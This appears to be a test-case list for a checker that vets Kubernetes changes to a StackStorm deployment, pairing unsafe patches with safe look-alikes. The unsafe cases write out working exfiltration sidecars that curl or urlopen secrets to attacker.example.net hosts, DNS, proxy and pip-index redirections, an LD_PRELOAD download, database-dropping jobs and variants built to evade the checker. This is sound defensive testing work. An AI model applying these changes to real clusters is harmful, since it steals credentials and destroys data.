case('hostalias-mongo-out', U, 'secret-sent-out', "hostAliases maps mongodb-0/1/2.mongodb to an outside IP in st2actionrunner: /etc/hosts wins over cluster DNS, so the runners send MongoDB credentials (SCRAM) and all execution data to that host (Kubernetes hostAliases; the same change for rabbitmq is denied)", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.8', 'hostnames': ['mongodb-0.mongodb', 'mongodb-1.mongodb', 'mongodb-2.mongodb']}]}])])
case('dns-none-attacker', U, 'secret-sent-out', "dnsPolicy None with an outside nameserver and search domain: 'rabbitmq'/'mongodb-0.mongodb' resolve through attacker DNS, credentials sent where it points (Kubernetes Pod DNS policy None)", patches=[dep('st2workflowengine', [{'op': 'add', 'path': '/spec/template/spec/dnsPolicy', 'value': 'None'}, {'op': 'add', 'path': '/spec/template/spec/dnsConfig', 'value': {'nameservers': ['203.0.113.53'], 'searches': ['attacker.example.net']}}])])
case('http-proxy-runner', U, 'secret-sent-out', "HTTP_PROXY/http_proxy to an outside proxy without NO_PROXY on st2actionrunner: python-requests sends st2 API calls (http://st2api:9101 with X-Auth-Token) through it", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'HTTP_PROXY', 'value': 'http://proxy.attacker.example.net:3128'}, {'name': 'http_proxy', 'value': 'http://proxy.attacker.example.net:3128'}]}])])
case('pip-index-env', U, 'supply-chain', "PIP_INDEX_URL env on st2actionrunner/st2api: pip reads PIP_<OPTION> env (pip docs, configuration), so pack virtualenvs (st2 packs.setup_virtualenv runs pip) install from an attacker index; the same via [actionrunner] pip_opts is denied", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'PIP_INDEX_URL', 'value': 'https://pypi.attacker.example.net/simple'}]}]), dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'PIP_INDEX_URL', 'value': 'https://pypi.attacker.example.net/simple'}]}])])
case('ld-preload', U, 'supply-chain', "st2auth runs with LD_PRELOAD=/hook/libhook.so, a shared object an init container downloads from an outside URL into a shared emptyDir: unpinned outside code inside the process that checks every st2 password (ld.so(8): LD_PRELOAD loads before all others)", patches=[dep('st2auth', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'LD_PRELOAD', 'value': '/hook/libhook.so'}]}, {'op': 'add', 'path': '/spec/template/spec/initContainers/-', 'value': {'resources': RES, 'name': 'hook', 'image': 'curlimages/curl:8.8.0', 'command': ['curl', '-fsSLo', '/hook/libhook.so', 'https://cdn.attacker.example.net/libhook.so'], 'volumeMounts': [{'name': 'hook', 'mountPath': '/hook'}]}}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'hook', 'mountPath': '/hook', 'readOnly': True}}, {'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'hook', 'emptyDir': {}}}])])
case('sidecar-curl-secret', U, 'secret-sent-out', "sidecar posts the mounted st2.secrets.conf to an outside webhook", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': {'resources': RES, 'name': 'metrics-agent', 'image': 'curlimages/curl:8.8.0', 'command': ['sh', '-c', 'while true; do curl -s -F f=@/s/st2.secrets.conf https://hooks.attacker.example.net/c; sleep 3600; done'], 'volumeMounts': [{'name': 'st2-config-secrets-vol', 'mountPath': '/s', 'readOnly': True}]}}])])
case('sidecar-python-secret', U, 'secret-sent-out', "sidecar written in Python reads the datastore key and urlopen()s it out (no curl/wget words)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': {'resources': RES, 'name': 'telemetry', 'image': 'python:3.12-slim', 'command': ['python3', '-c', "import urllib.request as u;u.urlopen(u.Request('https://t.attacker.example.net/k',data=open('/k/datastore_key.json','rb').read()))"], 'volumeMounts': [{'name': 'st2-datastore-crypto-key-vol', 'mountPath': '/k', 'readOnly': True}]}}])])
case('es-pushsecret-out', U, 'secret-sent-out', "PushSecret copies st2-datastore-crypto-key to a store outside st2's (ESO PushSecret)", resources=["""
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata:
  name: backup-key
spec:
  refreshInterval: 1h
  secretStoreRefs:
  - name: team-backup-vault
    kind: ClusterSecretStore
  selector:
    secret:
      name: st2-datastore-crypto-key
  data:
  - match:
      secretKey: datastore_key.json
      remoteRef:
        remoteKey: copies/st2-prod/datastore
"""])
case('secret-env-to-annotation', U, 'secret-exposure', "a sidecar with a Role to patch pods writes the MongoDB admin password into its own pod's annotation (kubectl annotate): anyone with view on st2-prod (get pods, no Secret rights) reads it (Kubernetes RBAC: view role excludes Secrets but includes pods)", resources=["""
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: pod-self-annotate
rules:
- apiGroups: [""]
  resources: [pods]
  verbs: [get, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: pod-self-annotate
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: pod-self-annotate
subjects:
- kind: ServiceAccount
  name: default
"""], patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': {'resources': RES, 'name': 'lbl', 'image': 'bitnami/kubectl:1.30', 'command': ['sh', '-c', 'kubectl annotate pod $HOSTNAME debug/pw=$MONGO_PASSWORD --overwrite; sleep infinity'], 'env': [{'name': 'MONGO_PASSWORD', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-admin', 'key': 'password'}}}]}}])])
case('secret-into-log-stdout', U, 'secret-exposure', "init container echoes the RabbitMQ password to stdout: it lands in the cluster log pipeline (kubectl logs readers, log SaaS)", patches=[sts('rabbitmq', [{'op': 'add', 'path': '/spec/template/spec/initContainers/-', 'value': {'resources': RES, 'name': 'debug', 'image': 'busybox:1.36', 'command': ['sh', '-c', 'echo "pass is $P"'], 'env': [{'name': 'P', 'valueFrom': {'secretKeyRef': {'name': 'rabbitmq', 'key': 'rabbitmq-password'}}}]}}])])
case('es-key-from-dev', U, 'secret-store', "prod st2-datastore-crypto-key ExternalSecret reads the dev key path: prod datastore encrypted with a key dev engineers hold", patches=[jp('ExternalSecret', 'st2-datastore-crypto-key', [{'op': 'replace', 'path': '/spec/data/0/remoteRef/key', 'value': 'stackstorm-dev/datastore'}], 'external-secrets.io')])
case('planted-st2-password-in-cm', U, 'secret-committed', "st2admin password as a ConfigMap key envFrom'd into st2client: credential in git history and readable by anyone with view (README ST2-SEC-013 covers *_PASSWORD env literals and passwords in ConfigMaps)", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: st2client-login
data:
  ST2_AUTH_USERNAME: st2admin
  ST2_AUTH_PASSWORD: "Vq7#pLr2-zeta-Kite-9931"
"""], patches=[dep('st2client', [{'op': 'add', 'path': '/spec/template/spec/containers/0/envFrom/-', 'value': {'configMapRef': {'name': 'st2client-login'}}}])], planted='Vq7#pLr2-zeta-Kite-9931')
case('planted-pack-config-token', U, 'secret-committed', "a pack config in st2-pack-configs carries a literal API token under key 'token' (README: a password in a pack config is a credential in git; st2 docs say use {{ st2kv... | decrypt_kv }})", patches=[jp('ConfigMap', 'st2-pack-configs', [{'op': 'add', 'path': '/data/pagerduty.yaml', 'value': "api_key_header: Authorization\ntoken: \"u+Zr8Kq2Lw-Otter55-Quartz\"\nservice_key: st2\n"}])], planted='u+Zr8Kq2Lw-Otter55-Quartz')
case('planted-secret-generator', U, 'secret-committed', "secretGenerator literal password read by st2actionrunner env in production: a credential in git history (README ST2-SEC-013: a Secret pods read written in git)", extra={'secretGenerator': [{'name': 'mongodb-extra', 'literals': ['password=Hx9-Lantern-Blue-2207'], 'options': {'disableNameSuffixHash': True}}]}, patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'MONGO_REPORTING_PASSWORD', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-extra', 'key': 'password'}}}]}])], planted='Hx9-Lantern-Blue-2207')
case('planted-token-in-annotation', U, 'secret-committed', "an st2 API key committed as a Deployment annotation: in git history and readable by anyone with get on Deployments (README ST2-SEC-013: ST2_API_KEY literal is a credential in git)", patches=[dep('st2client', [{'op': 'add', 'path': '/metadata/annotations/st2-api-key', 'value': 'NmM0YmE4ZTk3ZTFmNGQ2YjkxZjQ0MGNmNzg5ZDNhY2U'}])], planted='NmM0YmE4ZTk3ZTFmNGQ2YjkxZjQ0MGNmNzg5ZDNhY2U')
case('planted-rot13', U, 'secret-committed', "st2admin password committed ROT13-encoded in a script mounted into st2client and decoded with tr at runtime: a credential in git (ROT13 is not among the gate's decodings)", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: st2-bootstrap
data:
  boot.sh: |
    P=$(echo 'Pu@atrZr' | tr 'A-Za-z' 'N-ZA-Mn-za-m')
    st2 login st2admin -p "$P"
"""], patches=[dep('st2client', [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'boot', 'configMap': {'name': 'st2-bootstrap'}}}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'boot', 'mountPath': '/boot'}}])], planted='Pu@atrZr')

# ---------------------------------------------------------------- privilege (unsafe)
case('runner-sa-cluster-admin', U, 'privilege', "ClusterRoleBinding of cluster-admin to the default SA in st2-prod: any st2 action (run by anyone with st2 exec rights) owns the cluster", resources=["""
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: st2-runner-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
- kind: ServiceAccount
  name: default
  namespace: st2-prod
"""])
case('role-secrets-read-ns', U, 'privilege', "Role in st2-prod granting get/list secrets to the default SA with automount on: st2 actions read the datastore key and DB passwords", resources=["""
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: read-secrets
rules:
- apiGroups: [""]
  resources: [secrets]
  verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: read-secrets
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: read-secrets
subjects:
- kind: ServiceAccount
  name: default
"""])
case('runner-cap-sysadmin', U, 'privilege', "st2actionrunner gets CAP_SYS_ADMIN + allowPrivilegeEscalation: actions can mount/escape (Linux capabilities)", patches=[dep('st2actionrunner', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext', 'value': {'allowPrivilegeEscalation': True, 'capabilities': {'add': ['SYS_ADMIN', 'NET_ADMIN']}}}])])
case('runner-hostpid', U, 'privilege', "hostPID: true on st2actionrunner (not privileged): actions see and signal every process on the node and read their /proc/<pid>/environ as root", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/hostPID', 'value': True}])])
case('runner-hostpath-kubelet', U, 'privilege', "hostPath /var/lib/kubelet/pods mounted into runners: every pod's projected SA tokens and secrets on the node", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'kp', 'hostPath': {'path': '/var/lib/kubelet/pods'}}}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'kp', 'mountPath': '/kp'}}])])
case('runner-priority-system', U, 'privilege', "priorityClassName system-node-critical on 8 st2actionrunners: they preempt cluster DNS/CNI pods under pressure (Kubernetes priority and preemption)", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/priorityClassName', 'value': 'system-node-critical'}])])
case('mutating-webhook', U, 'admission', "MutatingWebhookConfiguration pointed at an outside URL for st2 pods: rewrites every manifest after the gate", resources=["""
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: st2-tuning
webhooks:
- name: tune.st2.example.com
  admissionReviewVersions: [v1]
  sideEffects: None
  clientConfig:
    url: https://hook.attacker.example.net/mutate
  rules:
  - operations: [CREATE]
    apiGroups: [""]
    apiVersions: [v1]
    resources: [pods]
"""])
case('vap-deny-updates', U, 'admission', "ValidatingAdmissionPolicy + binding denying every UPDATE of Deployments in st2-prod: Argo CD can never sync again", resources=["""
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata:
  name: freeze-st2
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules:
    - apiGroups: [apps]
      apiVersions: [v1]
      operations: [UPDATE, CREATE]
      resources: [deployments, statefulsets]
  validations:
  - expression: "false"
    message: frozen
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata:
  name: freeze-st2
spec:
  policyName: freeze-st2
  validationActions: [Deny]
"""])
case('resourcequota-zero-pods', U, 'outage', "ResourceQuota pods: 0 in st2-prod: no pod can be (re)created; every restart or rollout leaves services down", resources=["""
apiVersion: v1
kind: ResourceQuota
metadata:
  name: freeze
spec:
  hard:
    pods: "0"
"""])
case('limitrange-tiny', U, 'crash', "LimitRange max memory 32Mi: admission rejects every st2 pod with bigger limits -> nothing starts", resources=["""
apiVersion: v1
kind: LimitRange
metadata:
  name: tiny
spec:
  limits:
  - type: Container
    max:
      memory: 32Mi
"""])
case('netpol-deny-all-egress', U, 'outage', "default-deny NetworkPolicy for egress on all st2-prod pods (no DNS, no MongoDB/RabbitMQ): every st2 service loses its stores", resources=["""
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: deny-egress
spec:
  podSelector: {}
  policyTypes: [Egress]
"""])
case('image-st2api-37', U, 'supply-chain', "st2api at 3.7.1 against a 3.8.1 database and services: mixed-version st2 (st2 upgrade notes: all services same version, migrations)", extra={'images': [{'name': 'stackstorm/st2api', 'newTag': '3.7.1'}]})
case('image-mongo-latest', U, 'supply-chain', "mongo:latest (8.x) on a 4.4 data directory: mongod refuses to start on featureCompatibilityVersion 4.4 (MongoDB upgrade docs require stepwise upgrade)", extra={'images': [{'name': 'mongo', 'newTag': 'latest'}]})
case('image-rabbit-4', U, 'crash', "rabbitmq 4.0 on 3.12 nodes with classic mirrored queues: 4.0 removed classic queue mirroring and needs feature flags enabled on 3.13 first (RabbitMQ 4.0 upgrade notes)", extra={'images': [{'name': 'rabbitmq', 'newTag': '4.0.5'}]})
case('image-typosquat', U, 'supply-chain', "st2actionrunner image from docker.io/stackst0rm (zero): typosquatted publisher", extra={'images': [{'name': 'stackstorm/st2actionrunner', 'newName': 'stackst0rm/st2actionrunner'}]})
case('image-etcd-other-registry', U, 'supply-chain', "etcd (st2's coordination store) from an unknown registry: code nobody vetted holds every st2 lock; README promises store images only from their publishers' registries (hardening_publishers)", extra={'images': [{'name': 'bitnamilegacy/etcd', 'newName': 'registry.attacker.example.net/etcd'}]})
case('argo-app-in-render', U, 'delivery', "an Argo CD Application inside the render deploys a Helm chart into st2-prod that the gate never sees", resources=["""
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: st2-extras
  namespace: argocd
spec:
  project: default
  source:
    repoURL: https://charts.example.net
    chart: extras
    targetRevision: 1.0.0
  destination:
    server: https://kubernetes.default.svc
    namespace: st2-prod
"""])
case('cm-hook-presync', U, 'argocd-sync', "st2-config ConfigMap made a PreSync hook with delete policy HookSucceeded: Argo CD deletes it after the hook phase, st2 pods lose their config", patches=[jp('ConfigMap', 'st2-config', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'argocd.argoproj.io/hook': 'PreSync', 'argocd.argoproj.io/hook-delete-policy': 'HookSucceeded'}}])])
case('sync-replace-sts', U, 'argocd-sync', "sync-options Replace=true,Force=true on mongodb StatefulSet: Argo CD deletes and recreates it on every sync: all three members go down at once", patches=[sts('mongodb', [{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1sync-options', 'value': 'Force=true,Replace=true'}])])
case('ns-label-psa-privileged-staging', U, 'privilege', "staging Namespace labelled pod-security.kubernetes.io/enforce=privileged: removes PSA from st2's namespace so privileged pods get admitted", env='staging', patches=[jp('Namespace', 'st2-staging', [{'op': 'add', 'path': '/metadata/labels/pod-security.kubernetes.io~1enforce', 'value': 'privileged'}])])
case('dev-ns-prod', U, 'environment', "dev overlay retargeted to namespace st2-prod with kustomize namespace transformer: dev defaults land in production", env='dev', extra={'namespace': 'st2-prod'})
case('staging-owns-prod-ns', U, 'environment', "staging render adds Namespace st2-prod object it would own (and prune)", env='staging', resources=["""
apiVersion: v1
kind: Namespace
metadata:
  name: st2-prod
"""])
case('cronjob-mongo-drop', U, 'data-loss', "CronJob dropping the st2 database nightly 'to reset test data' in prod", resources=["""
apiVersion: batch/v1
kind: CronJob
metadata:
  name: reset
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: m
            image: mongo:4.4.29
            command: [sh, -c, 'mongo --host rs0/mongodb-0.mongodb -u "$U" -p "$P" --authenticationDatabase admin st2 --eval "db.dropDatabase()"']
            env:
            - {name: U, valueFrom: {secretKeyRef: {name: mongodb-admin, key: user}}}
            - {name: P, valueFrom: {secretKeyRef: {name: mongodb-admin, key: password}}}
            resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 200m, memory: 256Mi}}
"""])
case('job-rabbit-reset', U, 'data-loss', "Job with a Role for pods/exec runs `rabbitmqctl force_reset` on rabbitmq-0 through kubectl exec: the node forgets its cluster membership and its queues' messages (RabbitMQ rabbitmqctl docs: force_reset)", resources=["""
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: rabbit-fix
rules:
- apiGroups: [""]
  resources: [pods/exec]
  verbs: [create]
- apiGroups: [""]
  resources: [pods]
  verbs: [get]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: rabbit-fix
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: rabbit-fix
subjects:
- kind: ServiceAccount
  name: default
---
apiVersion: batch/v1
kind: Job
metadata:
  name: rabbit-fix
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - name: k
        image: bitnami/kubectl:1.30
        command: [kubectl, exec, rabbitmq-0, --, sh, -c, "rabbitmqctl stop_app && rabbitmqctl force_reset && rabbitmqctl start_app"]
        resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 200m, memory: 256Mi}}
"""])
case('st2urls-auth-out', U, 'secret-sent-out', "ST2_AUTH_URL in st2-urls ConfigMap to an outside host: st2client/st2web send user passwords there", patches=[jp('ConfigMap', 'st2-urls', [{'op': 'replace', 'path': '/data/ST2_AUTH_URL', 'value': 'https://auth.attacker.example.net/'}])])
case('replacement-host-out', U, 'secret-sent-out', "kustomize replacements copy a ConfigMap value (an outside host) into the st2 database host line: indirection through replacements", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: red-vars
data:
  conf: |
    # Operator overrides
    [database]
    host = mongodb://mongo.attacker.example.net:27017/?authSource=admin
"""], extra={'replacements': [{'source': {'kind': 'ConfigMap', 'name': 'red-vars', 'fieldPath': 'data.conf'}, 'targets': [{'select': {'kind': 'ConfigMap', 'name': 'st2-config'}, 'fieldPaths': ['data.st2\\.user\\.conf']}]}]})
case('component-inline-auth-off', U, 'st2-auth', "a local kustomize Component turns auth off in st2.user.conf via strategic merge", files={'comp/kustomization.yaml': '', }, extra={'components': ['comp']})


# ---------------------------------------------------------------- second round: variants of the first misses
case('hostalias-st2auth-web', U, 'secret-sent-out', "hostAliases in st2web maps st2auth to an outside IP: st2web's nginx proxies /auth (users' passwords, Basic auth) to it (Kubernetes hostAliases override DNS)", patches=[dep('st2web', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.9', 'hostnames': ['st2auth']}]}])])
case('hostalias-etcd-out', U, 'coordination', "hostAliases maps etcd to an outside IP in st2scheduler: its locks are taken on a foreign etcd while the others use the cluster's, so schedulers no longer exclude each other (duplicate executions)", patches=[dep('st2scheduler', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.10', 'hostnames': ['etcd']}]}])])
case('hostalias-mongo-fqdn', U, 'secret-sent-out', "hostAliases maps the FQDN mongodb-0.mongodb.st2-prod.svc.cluster.local (and short forms) out of the cluster in st2api", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.11', 'hostnames': ['mongodb-0.mongodb', 'mongodb-1.mongodb', 'mongodb-2.mongodb', 'mongodb-0.mongodb.st2-prod.svc.cluster.local']}]}])])
case('pip-extra-index-env', U, 'supply-chain', "PIP_EXTRA_INDEX_URL on st2actionrunner: pip picks the highest version from either index, so an attacker's package of the same name wins (dependency confusion; pip docs --extra-index-url)", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'PIP_EXTRA_INDEX_URL', 'value': 'https://pypi.attacker.example.net/simple'}]}])])
case('pip-conf-file', U, 'supply-chain', "/etc/pip.conf from a ConfigMap with index-url set to an outside index, mounted in st2actionrunner: pip reads the global config file (pip docs, configuration files)", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: pip-conf
data:
  pip.conf: |
    [global]
    index-url = https://pypi.attacker.example.net/simple
    trusted-host = pypi.attacker.example.net
"""], patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'pipconf', 'configMap': {'name': 'pip-conf'}}}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'pipconf', 'mountPath': '/etc/pip.conf', 'subPath': 'pip.conf'}}])])
case('git-insteadof-env', U, 'supply-chain', "GIT_CONFIG_COUNT/KEY/VALUE env rewrites https://github.com/ to an attacker mirror (git-config: url.<base>.insteadOf, GIT_CONFIG_KEY_n env): `st2 pack install` clones packs from the attacker", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'GIT_CONFIG_COUNT', 'value': '1'}, {'name': 'GIT_CONFIG_KEY_0', 'value': 'url.https://git.attacker.example.net/.insteadOf'}, {'name': 'GIT_CONFIG_VALUE_0', 'value': 'https://github.com/'}]}])])
case('image-mongo-other-registry', U, 'supply-chain', "MongoDB image from an unknown registry: the store holding every st2 credential and execution runs unvetted code", extra={'images': [{'name': 'mongo', 'newName': 'ghcr.io/some-user/mongo'}]})
case('image-rabbit-other-registry', U, 'supply-chain', "RabbitMQ image from an unknown registry", extra={'images': [{'name': 'rabbitmq', 'newName': 'quay.io/some-user/rabbitmq'}]})
case('timers-via-printf-name', U, 'singleton', "st2rulesengine's shell also starts `$(printf /opt/stackstorm/st2/bin/st2%sengine timers)` in background: a second timers engine (3 rulesengine replicas -> 3 more)", patches=[dep('st2rulesengine', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['/bin/sh', '-c', '"$(printf /opt/stackstorm/st2/bin/st2%sengine timers)" "$@" & exec /opt/stackstorm/st2/bin/st2rulesengine "$@"', '--']}])])
case('timers-via-positional', U, 'singleton', "st2garbagecollector's shell runs st2${1}engine with timers passed as $1 in args: a second timers engine", patches=[dep('st2garbagecollector', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['/bin/sh', '-c', '/opt/stackstorm/st2/bin/st2${1}engine --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --config-file=/etc/st2/st2.secrets.conf & exec /opt/stackstorm/st2/bin/st2garbagecollector --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --config-file=/etc/st2/st2.secrets.conf', 'sh', 'timers']}, {'op': 'remove', 'path': '/spec/template/spec/containers/0/args'}])])
case('planted-cm-envfrom-apikey', U, 'secret-committed', "ST2_API_KEY as a ConfigMap key envFrom'd into st2actionrunner (README SEC-013 names ST2_API_KEY literals)", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: runner-env
data:
  ST2_API_KEY: "ZmQ0N2Y5YjM1YzFlNGE3ZGI2ZTAzMjk5OGMxNGFiZjc"
"""], patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/envFrom/-', 'value': {'configMapRef': {'name': 'runner-env'}}}])], planted='ZmQ0N2Y5YjM1YzFlNGE3ZGI2ZTAzMjk5OGMxNGFiZjc')
case('cfg-service-token-ttl', U, 'st2-auth', "[auth] service_token_ttl = 315360000: tokens st2 issues to its own services/actions (ST2_AUTH_TOKEN in every action's env) live 10 years, so one leaked from an action log works for a decade", patches=[userconf("\n[auth]\nservice_token_ttl = 315360000\n")])
case('ok-cfg-token-ttl-1d', A, 'safe-config', "[auth] token_ttl = 86400 restates st2's default", patches=[userconf("\n[auth]\ntoken_ttl = 86400\n")])
case('ok-hostalias-smtp', A, 'bait', "hostAliases for the corporate SMTP relay (10.x) on st2actionrunner for the email pack", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '10.9.8.7', 'hostnames': ['smtp.corp.example.com']}]}])])
case('ok-pip-index-internal-mirror', A, 'bait', "PIP_INDEX_URL to the company's in-cluster PyPI mirror Service (devpi in a team namespace, cluster.local): a vetted mirror, the usual air-gapped setup", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'PIP_INDEX_URL', 'value': 'http://devpi.pypi-mirror.svc.cluster.local:3141/root/pypi/+simple/'}]}])])
case('ok-image-etcd-quay-coreos', A, 'safe-supply', "etcd from quay.io/coreos (etcd's own registry) at 3.5.17", extra={'images': [{'name': 'bitnamilegacy/etcd', 'newName': 'docker.io/bitnamilegacy/etcd', 'newTag': '3.5.17'}]})

# ---------------------------------------------------------------- safe look-alikes
S = []
case('ok-cfg-mask-true', A, 'safe-config', "[api]/[log] mask_secrets = True are st2's defaults (secrets_masking.rst)", patches=[userconf("mask_secrets = True\n\n[log]\nmask_secrets = True\n")])
case('ok-cfg-token-ttl-12h', A, 'safe-config', "[auth] token_ttl 43200 is shorter than the 86400 default", patches=[userconf("\n[auth]\ntoken_ttl = 43200\n")])
case('ok-cfg-auth-enable-lower', A, 'safe-config', "[auth] enable = true (lower case) is True to oslo.config", patches=[userconf("\n[auth]\nenable = true\n")])
case('ok-cfg-debug-false', A, 'safe-config', "[system] debug = False is the default", patches=[userconf("\n[system]\ndebug = False\n")])
case('ok-cfg-index-default', A, 'safe-config', "[content] index_url set to StackStorm Exchange's own default index", patches=[userconf("\n[content]\nindex_url = https://index.stackstorm.org/v1/index.json\n")])
case('ok-cfg-gc-30d', A, 'safe-config', "[garbagecollector] keep 30 days of executions: normal retention", patches=[userconf("\n[garbagecollector]\naction_executions_ttl = 30\naction_executions_output_ttl = 14\ntrigger_instances_ttl = 30\n")])
case('ok-cfg-lock-timeout', A, 'safe-config', "[coordination] lock_timeout tuning; url unchanged", patches=[userconf("\n[coordination]\nlock_timeout = 60\n")])
case('ok-cfg-db-timeouts', A, 'safe-config', "[database] connection_timeout / connection_retry_max_delay_m tuning, host unchanged", patches=[userconf("\n[database]\nconnection_timeout = 6000\nconnection_retry_max_delay_m = 3\n")])
case('ok-cfg-messaging-retries', A, 'safe-config', "[messaging] connection_retries tuning", patches=[userconf("\n[messaging]\nconnection_retries = 20\nconnection_retry_wait = 5000\n")])
case('ok-cfg-allow-origin-host', A, 'safe-config', "[api] allow_origin narrowed from * to the Ingress host", patches=[jp('ConfigMap', 'st2-config', [{'op': 'replace', 'path': '/data/st2.user.conf', 'value': "# Operator overrides\n[api]\nallow_origin = https://st2.example.com\n"}])])
case('ok-cfg-workflow-jitter', A, 'safe-config', "[workflow_engine] retry tuning", patches=[userconf("\n[workflow_engine]\nretry_max_jitter_msec = 1000\nretry_stop_max_msec = 60000\n")])
case('ok-cfg-comment-auth-false', A, 'bait', "a comment mentioning 'enable = False' under [auth]: oslo.config ignores # lines", patches=[userconf("\n[auth]\n# enable = False   (never do this in production)\nenable = True\n")])
case('ok-cfg-db-host-same', A, 'safe-config', "[database] host restated identically in st2.user.conf (same three members, rs0)", patches=[userconf("\n[database]\nhost = mongodb://mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017/?authSource=admin&replicaSet=rs0\n")])
case('ok-cfg-db-host-fqdn', A, 'safe-config', "[database] host with the in-cluster FQDN of the same members", patches=[userconf("\n[database]\nhost = mongodb://mongodb-0.mongodb.st2-prod.svc.cluster.local:27017,mongodb-1.mongodb.st2-prod.svc.cluster.local:27017,mongodb-2.mongodb.st2-prod.svc.cluster.local:27017/?authSource=admin&replicaSet=rs0\n")])
case('ok-cfg-coord-fqdn', A, 'safe-config', "[coordination] url with the etcd Service FQDN: same backend", patches=[userconf("\n[coordination]\nurl = etcd://etcd.st2-prod.svc.cluster.local:2379\n")])
case('ok-cfg-pip-no-cache', A, 'safe-config', "[actionrunner] pip_opts --no-cache-dir: pip option without a different index", patches=[userconf("\n[actionrunner]\npip_opts = --no-cache-dir\n")])
case('ok-cfg-ssh-timeout', A, 'safe-config', "[ssh_runner] connect timeout tuning", patches=[userconf("\n[ssh_runner]\nmax_parallel_actions = 25\n")])
case('ok-mongo-wt-cache', A, 'safe-store', "mongod --wiredTigerCacheSizeGB 1 within its memory limit", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--wiredTigerCacheSizeGB=1'}])])
case('ok-mongo-oplog', A, 'safe-store', "mongod --oplogSize 2048: bigger oplog, safer resync window", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--oplogSize=2048'}])])
